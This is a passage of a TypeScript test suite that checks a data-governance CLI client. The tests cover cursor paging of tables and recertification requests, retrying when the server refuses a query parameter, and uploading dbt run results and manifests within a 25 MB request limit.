      const unknown = [...new URL(request.url).searchParams.keys()].filter((k) => names.includes(k));
      if (unknown.length === 0) return undefined;
      return HttpResponse.json(
        {
          error: {
            code: 'invalid_query',
            message: `Unknown query parameters: ${unknown.join(', ')}. Allowed: state, name, limit, cursor.`,
            details: { unknown, allowed: ['state', 'name', 'limit', 'cursor'] },
          },
        },
        { status: 400 },
      );
    });

  it('asks a service from before total=false again without it', async () => {
    api.use(refusing(['total']), serveTables(150));
    const pages = [];
    for await (const page of listTablePages(newClient(), { withTotal: false })) pages.push(page);
    expect(pages.map((p) => [p.rows.length, p.total])).toEqual([
      [100, 150],
      [50, undefined],
    ]);
    expect(api.seen.map((r) => r.url.search)).toEqual([
      '?limit=100&total=false',
      '?limit=100',
      '?limit=1000&cursor=100',
    ]);
  });

  it('does not ask again after any other refusal', async () => {
    api.use(refusing(['limit']));
    await expect(async () => {
      for await (const page of listTablePages(newClient(), { withTotal: false })) void page;
    }).rejects.toMatchObject({ code: 'invalid_query' });
    expect(api.seen).toHaveLength(1);
  });

  it('asks the service for only -L tables and no page after them', async () => {
    api.use(serveTables(100_000));
    const pages = [];
    for await (const page of listTablePages(newClient(), { limit: 5 })) pages.push(page);
    expect(pages).toHaveLength(1);
    expect(pages[0]?.rows.map((t) => t.id)).toEqual(['tbl_0', 'tbl_1', 'tbl_2', 'tbl_3', 'tbl_4']);
    expect(api.seen.map((r) => r.url.search)).toEqual(['?limit=5']);
  });
});

describe('listRecertificationRequestPages', () => {
  /** `count` open requests served a page at a time, as the reference server pages them. */
  const serveRequests = (count: number) =>
    http.get(at('/api/recertification-requests'), ({ request }) => {
      const url = new URL(request.url);
      const limit = Number(url.searchParams.get('limit'));
      const start = Number(url.searchParams.get('cursor') ?? 0);
      const requests = Array.from({ length: Math.max(0, Math.min(limit, count - start)) }, (_, i) => ({
        id: `rcr_${start + i}`,
        tableId: `tbl_${start + i}`,
        status: 'OPEN',
      }));
      const next = start + limit < count ? String(start + limit) : null;
      return HttpResponse.json({ requests, nextCursor: next, ...(start === 0 ? { total: count } : {}) });
    });

  it('follows the cursor to the last page, --all sent on each', async () => {
    api.use(serveRequests(1500));
    const pages = [];
    for await (const page of listRecertificationRequestPages(newClient(), { all: true })) pages.push(page);
    expect(pages.map((p) => p.rows.length)).toEqual([100, 1000, 400]);
    expect(pages.map((p) => p.total)).toEqual([1500, undefined, undefined]);
    expect(api.seen.map((r) => r.url.search)).toEqual([
      '?all=true&limit=100',
      '?all=true&limit=1000&cursor=100',
      '?all=true&limit=1000&cursor=1100',
    ]);
  });

  it('the earlier signals of a page in one read of 100 requests; a service from before it, one a request', async () => {
    const signal = (requestId: string, n: number) => ({
      requestId,
      id: `rcs_${requestId}_${n}`,
      cause: 'manual',
      details: { n },
      createdBy: null,
      createdAt: new Date(Date.UTC(2026, 0, 1, 0, 0, n)).toISOString(),
    });
    const listed = ['rcr_a', 'rcr_b', 'rcr_c'].map((id) => ({
      id,
      status: 'OPEN',
      signals: [{ ...signal(id, 30), requestId: undefined }],
      earlierSignals: id !== 'rcr_b',
    }));
    const read = async () => {
      const pages = [];
      for await (const page of listRecertificationRequestPages(newClient())) pages.push(page);
      return pages.flatMap((p) => p.rows.map((r) => [r.id, r.signals.map((s) => s.id), r.earlierSignals]));
    };
    api.use(
      http.get(at('/api/recertification-requests'), () =>
        HttpResponse.json({ requests: listed, nextCursor: null }),
      ),
      http.get(at('/api/recertification-signals'), () =>
        HttpResponse.json({
          signals: [signal('rcr_a', 1), signal('rcr_c', 2), signal('rcr_a', 3)],
          nextCursor: null,
        }),
      ),
    );
    expect(await read()).toEqual([
      ['rcr_a', ['rcs_rcr_a_1', 'rcs_rcr_a_3'], false],
      ['rcr_b', ['rcs_rcr_b_30'], false],
      ['rcr_c', ['rcs_rcr_c_2'], false],
    ]);
    expect(api.seen.map((r) => `${r.url.pathname}${r.url.search}`).slice(1)).toEqual([
      '/stage/api/recertification-signals?requestId=rcr_a&requestId=rcr_c&limit=1000',
    ]);

    api.seen.length = 0;
    api.use(
      http.get(at('/api/recertification-signals'), () =>
        HttpResponse.json({ error: { code: 'not_found', message: 'Route not found' } }, { status: 404 }),
      ),
      http.get(at('/api/recertification-requests/:id/signals'), ({ params }) =>
        HttpResponse.json({ signals: [signal(String(params.id), 5)], nextCursor: null }),
      ),
    );
    expect((await read()).map(([id, signals]) => [id, signals])).toEqual([
      ['rcr_a', ['rcs_rcr_a_5']],
      ['rcr_b', ['rcs_rcr_b_30']],
      ['rcr_c', ['rcs_rcr_c_5']],
    ]);
    expect(api.seen.map((r) => r.url.pathname).slice(2)).toEqual([
      '/stage/api/recertification-requests/rcr_a/signals',
      '/stage/api/recertification-requests/rcr_c/signals',
    ]);
  });

  it('asks the service for only -L requests and no page after them', async () => {
    api.use(serveRequests(50_000));
    const pages = [];
    for await (const page of listRecertificationRequestPages(newClient(), { limit: 3 })) pages.push(page);
    expect(pages.flatMap((p) => p.rows.map((r) => r.id))).toEqual(['rcr_0', 'rcr_1', 'rcr_2']);
    expect(api.seen.map((r) => r.url.search)).toEqual(['?limit=3']);
  });
});

describe('recertify', () => {
  const run = (which: string, results: unknown[]) => ({
    metadata: { dbt_schema_version: 'https://schemas.getdbt.com/dbt/run-results/v6.json' },
    results,
    elapsed_time: 1,
    args: { which },
  });
  const built = run('run', [{ status: 'success', unique_id: 'model.shop.orders' }]);
  const node = {
    unique_id: 'model.shop.orders',
    resource_type: 'model',
    database: 'dev',
    schema: 'analytics',
    name: 'orders',
    alias: 'orders',
    checksum: { name: 'sha256', checksum: 'abc' },
  };
  const manifestWith = (nodes: Record<string, unknown>) => ({
    metadata: { dbt_schema_version: 'https://schemas.getdbt.com/dbt/manifest/v12.json' },
    nodes,
  });

  it('sends the run results and the manifest reduced to what drift detection reads', async () => {
    const manifest = manifestWith({
      'model.shop.orders': { ...node, raw_code: 'select 1', columns: { id: {} }, config: {} },
      'test.shop.not_null': { unique_id: 'test.shop.not_null', resource_type: 'test', name: 'not_null' },
    });
    const folder = await folderWith({ 'rr.json': JSON.stringify(built), 'm.json': JSON.stringify(manifest) });
    let body: unknown;
    const answer = { environmentLabel: 'dev', submitted: 1, governed: 0, outcomes: [] };
    api.use(
      http.post(at('/api/workspace/recertify'), async ({ request }) => {
        body = await request.json();
        return HttpResponse.json(answer);
      }),
    );
    const warnings: unknown[] = [];
    const response = await recertify(
      newClient(),
      {
        runResults: join(folder, 'rr.json'),
        manifest: join(folder, 'm.json'),
        environmentLabel: 'dev',
        trigger: 'NIGHTLY',
        evidenceRunId: 'r1',
      },
      (w) => warnings.push(w),
    );
    expect(response).toEqual(answer);
    expect(warnings).toEqual([]);
    expect(body).toEqual({
      runResults: built,
      manifest: { metadata: manifest.metadata, nodes: { 'model.shop.orders': node } },
      environmentLabel: 'dev',
      trigger: 'NIGHTLY',
      evidence: { kind: 'dbt', runId: 'r1' },
    });
  });

  it('a manifest of more than 25 MB is reduced to fit the request', async () => {
    const nodes: Record<string, unknown> = {};
    const code = 'select * from somewhere where x = 1 '.repeat(60);
    for (let i = 0; i < 12_000; i += 1) {
      nodes[`model.shop.m${i}`] = {
        ...node,
        unique_id: `model.shop.m${i}`,
        name: `m${i}`,
        raw_code: code,
        compiled_code: code,
      };
    }
    const text = JSON.stringify(manifestWith(nodes));
    expect(text.length).toBeGreaterThan(25 * 1024 * 1024);
    const folder = await folderWith({ 'rr.json': JSON.stringify(built), 'm.json': text });
    let size = 0;
    let kept = 0;
    api.use(
      http.post(at('/api/workspace/recertify'), async ({ request }) => {
        const raw = await request.text();
        size = Buffer.byteLength(raw);
        kept = Object.keys((JSON.parse(raw) as { manifest: { nodes: object } }).manifest.nodes).length;
        return HttpResponse.json({ environmentLabel: 'dev', submitted: 1, governed: 0, outcomes: [] });
      }),
    );
    await recertify(newClient(), { runResults: join(folder, 'rr.json'), manifest: join(folder, 'm.json') });
    expect(kept).toBe(12_000);
    expect(size).toBeLessThan(25 * 1024 * 1024);
  });

  it('run results of more than 25 MB are read, and sent with what the service reads of each result', async () => {
    // dbt writes each result's compiled SQL, timing and more: a large project's run_results.json passes
    // 25 MB. The service reads a result's status, unique_id, relation_name, message and adapter response.
    const code = 'select * from somewhere where x = 1 '.repeat(160);
    const results = [];
    for (let i = 0; i < 5_000; i += 1) {
      const model = i < 450;
      results.push({
        status: model ? 'success' : 'pass',
        unique_id: model ? `model.shop.m${i}` : `test.shop.t${i}`,
        relation_name: model ? `"dev"."analytics"."m${i}"` : null,
        message: model ? 'CREATE TABLE' : null,
        adapter_response: { _message: 'OK', rows_affected: i },
        compiled: true,
        compiled_code: code,
        timing: [
          { name: 'execute', started_at: '2026-11-26T10:00:00Z', completed_at: '2026-11-26T10:00:01Z' },
        ],
        thread_id: 'Thread-1',
        execution_time: 1.5,
        failures: null,
      });
    }
    const large = { ...run('build', results), elapsed_time: 60 };
    const text = JSON.stringify(large);
    expect(text.length).toBeGreaterThan(25 * 1024 * 1024);
    const folder = await folderWith({ 'rr.json': text });
    const bodies: string[] = [];
    api.use(
      http.post(at('/api/workspace/recertify'), async ({ request }) => {
        bodies.push(await request.text());
        return HttpResponse.json({ environmentLabel: 'dev', submitted: 450, governed: 0, outcomes: [] });
      }),
    );
    await recertify(newClient(), { runResults: join(folder, 'rr.json'), environmentLabel: 'dev' });
    expect(bodies).toHaveLength(1);
    expect(Buffer.byteLength(bodies[0] ?? '')).toBeLessThan(25 * 1024 * 1024);
    const sent = (JSON.parse(bodies[0] ?? '{}') as { runResults: typeof large }).runResults;
    expect(sent.metadata).toEqual(large.metadata);
    expect(sent.args).toEqual(large.args);
    expect(sent.results).toHaveLength(5_000);
    expect(sent.results[0]).toEqual({
      status: 'success',
      unique_id: 'model.shop.m0',
      relation_name: '"dev"."analytics"."m0"',
      message: 'CREATE TABLE',
      adapter_response: { _message: 'OK', rows_affected: 0 },
    });
  });

  it('run results that fit 25 MB alone are reduced when --env, --trigger and the evidence take the request past it', async () => {
    // The request is the run results and the fields added to them: it is the whole body that must fit.
    const result = { status: 'success', unique_id: 'model.shop.orders', compiled_code: '' };
    const alone = JSON.stringify({ runResults: run('run', [result]) }).length;
    result.compiled_code = 'x'.repeat(REQUEST_BODY_LIMIT_BYTES - 5 - alone);
    const written = run('run', [result]);
    expect(JSON.stringify({ runResults: written }).length).toBe(REQUEST_BODY_LIMIT_BYTES - 5);
    const folder = await folderWith({ 'rr.json': JSON.stringify(written) });
    const bodies: string[] = [];
    api.use(
      http.post(at('/api/workspace/recertify'), async ({ request }) => {
        bodies.push(await request.text());
        return HttpResponse.json({ environmentLabel: 'production', submitted: 1, governed: 0, outcomes: [] });
      }),
    );
    await recertify(newClient(), {
      runResults: join(folder, 'rr.json'),
      environmentLabel: 'production',
      trigger: 'NIGHTLY',
      evidenceRunId: 'r1',
    });
    expect(bodies).toHaveLength(1);
    expect(Buffer.byteLength(bodies[0] ?? '')).toBeLessThanOrEqual(REQUEST_BODY_LIMIT_BYTES);
    const sent = JSON.parse(bodies[0] ?? '{}') as {
      runResults: { results: unknown[] };
      environmentLabel: string;
    };
    expect(sent.environmentLabel).toBe('production');
    expect(sent.runResults.results).toEqual([{ status: 'success', unique_id: 'model.shop.orders' }]);
  });

  it('run results over 25 MB even reduced (a message dbt wrote): exit 2 naming the limit, nothing sent', async () => {
    const result = {
      status: 'success',
      unique_id: 'model.shop.orders',
      message: 'x'.repeat(REQUEST_BODY_LIMIT_BYTES),
    };
    const folder = await folderWith({ 'rr.json': JSON.stringify(run('run', [result])) });
    const error = await rejection(
      recertify(newClient(), { runResults: join(folder, 'rr.json'), environmentLabel: 'dev' }),
    );
    expect(error).toMatchObject({ exitCode: 2, code: 'request_too_large' });
    expect(error.message).toContain(`${REQUEST_BODY_LIMIT_BYTES.toLocaleString('en')} bytes`);
    expect(api.seen).toEqual([]);
  });

  it('run results that fit the request are sent as dbt wrote them (the service derives its evidence from them)', async () => {
    const result = {
      status: 'success',
      unique_id: 'model.shop.orders',
      relation_name: '"dev"."analytics"."orders"',
      message: 'SELECT 3',
      adapter_response: { _message: 'SELECT 3', rows_affected: 3 },
      timing: [{ name: 'execute', started_at: '2026-11-26T10:00:00Z', completed_at: '2026-11-26T10:00:01Z' }],
      thread_id: 'Thread-1',
      execution_time: 1.25,
      failures: null,
      compiled_code: 'select 1 as id',
    };
    const test = {
      status: 'fail',
      unique_id: 'test.shop.not_null_orders_id',
      failures: 2,
      execution_time: 0.5,
    };
    const written = run('build', [result, test]);
    const folder = await folderWith({ 'rr.json': JSON.stringify(written) });
    const bodies: string[] = [];
    api.use(
      http.post(at('/api/workspace/recertify'), async ({ request }) => {
        bodies.push(await request.text());
        return HttpResponse.json({ environmentLabel: 'dev', submitted: 1, governed: 0, outcomes: [] });
      }),
    );
    await recertify(newClient(), { runResults: join(folder, 'rr.json'), environmentLabel: 'dev' });
    expect(bodies).toHaveLength(1);
    expect((JSON.parse(bodies[0] ?? '{}') as { runResults: unknown }).runResults).toEqual(written);
  });

  it('a manifest that is not JSON, not a manifest, or names a model in text no database holds: one warning, the signal sent without it', async () => {
    const folder = await folderWith({
      'rr.json': JSON.stringify(built),
      'bad.json': '{"nodes": ',
      'other.json': '{"name": "not a manifest"}',
      // The service ignores these (§4.8): before, gds sent them without a word.
      'nul.json': JSON.stringify({ nodes: { 'model.shop.orders': { ...node, alias: 'ord\u0000ers' } } }),
      'surrogate.json': JSON.stringify({ nodes: { 'model.shop.orders': { ...node, schema: 'an\uD800' } } }),
    });
    const bodies: Array<Record<string, unknown>> = [];
    api.use(
      http.post(at('/api/workspace/recertify'), async ({ request }) => {
        bodies.push((await request.json()) as Record<string, unknown>);
        return HttpResponse.json({ environmentLabel: 'dev', submitted: 1, governed: 0, outcomes: [] });
      }),
    );
    for (const manifest of ['bad.json', 'other.json', 'nul.json', 'surrogate.json']) {
      const warnings: Array<{ code: string; message: string }> = [];
      await recertify(
        newClient(),
        { runResults: join(folder, 'rr.json'), manifest: join(folder, manifest) },
        (w) => warnings.push(w),
      );
      expect(warnings).toHaveLength(1);
      expect(warnings[0]?.code).toBe('manifest_ignored');
      expect(warnings[0]?.message).toContain(manifest);
    }
    expect(bodies.map((b) => 'manifest' in b)).toEqual([false, false, false, false]);

    // Only the node in such text is left out: the others still name their tables for the service.
    await writeFile(
      join(folder, 'one-bad.json'),
      JSON.stringify({
        nodes: {
          'model.shop.orders': { ...node, alias: 'ord\u0000ers' },
          'model.shop.customers': { ...node, name: 'customers', alias: 'dim_customers' },
        },
      }),
    );
    const warnings: Array<{ code: string; message: string }> = [];
    await recertify(
      newClient(),
      { runResults: join(folder, 'rr.json'), manifest: join(folder, 'one-bad.json') },
      (w) => warnings.push(w),
    );
    expect(warnings).toEqual([
      expect.objectContaining({
        code: 'manifest_ignored',
        message: expect.stringContaining('model.shop.orders'),
      }),
    ]);
    const sent = bodies.at(-1)?.['manifest'] as { nodes: Record<string, unknown> } | undefined;
    expect(Object.keys(sent?.nodes ?? {})).toEqual(['model.shop.customers']);
  });

  it('a run that built nothing (docs generate, compile, list, parse, show, rpc compile, tests only): exit 7, nothing sent', async () => {
    const success = [{ status: 'success', unique_id: 'model.shop.orders' }];
    const runs = {
      'generate.json': run('generate', success),
      'compile.json': run('compile', success),
      'ls.json': run('ls', success),
      'parse.json': run('parse', success),
      'show.json': run('show', success),
      'rpc.json': { ...run('compile', success), args: { rpc_method: 'compile' } },
      'tests.json': run('test', [{ status: 'pass', unique_id: 'test.shop.not_null' }]),
    };
    const folder = await folderWith(
      Object.fromEntries(Object.entries(runs).map(([n, v]) => [n, JSON.stringify(v)])),
    );
    for (const name of Object.keys(runs)) {
      const error = await rejection(recertify(newClient(), { runResults: join(folder, name) }));
      expect(error, name).toMatchObject({ exitCode: 7, code: 'nothing_built' });
      expect(error.message).toContain('built nothing');
    }
    expect(api.seen).toEqual([]);
  });

  it('a run whose successful results name no table (no relation, manifest name or model.<project>.<name>): exit 7, nothing sent', async () => {
    const unnamed = run('run', [
      { status: 'success', unique_id: 'model' },
      { status: 'success', unique_id: 'model.shop' },
    ]);
    const manifest = manifestWith({ model: { ...node, unique_id: 'model', name: '', alias: '' } });
    const folder = await folderWith({
      'rr.json': JSON.stringify(unnamed),
      'm.json': JSON.stringify(manifest),
    });
    for (const input of [{}, { manifest: join(folder, 'm.json') }]) {
      const error = await rejection(
        recertify(newClient(), { runResults: join(folder, 'rr.json'), ...input }),
      );
      expect(error, JSON.stringify(input)).toMatchObject({ exitCode: 7, code: 'nothing_built' });
      expect(error.message).toContain('built nothing');
    }
    expect(api.seen).toEqual([]);
  });

  it('--tables sends the names', async () => {
    let body: unknown;
    api.use(
      http.post(at('/api/workspace/recertify'), async ({ request }) => {
        body = await request.json();
        return HttpResponse.json({ environmentLabel: 'dev', submitted: 2, governed: 0, outcomes: [] });
      }),
    );
    await recertify(newClient(), { tables: ['a', 'b'] });
    expect(body).toEqual({ tables: ['a', 'b'] });
  });

  it('a run results file that is not a JSON object: exit 2, nothing sent', async () => {
    const folder = await folderWith({ 'rr.json': 'not json', 'arr.json': '[]' });
    expect(await rejection(recertify(newClient(), { runResults: join(folder, 'rr.json') }))).toMatchObject({
      exitCode: 2,
      code: 'invalid_json',
    });
    expect(await rejection(recertify(newClient(), { runResults: join(folder, 'arr.json') }))).toMatchObject({
      exitCode: 2,
    });
  });
});
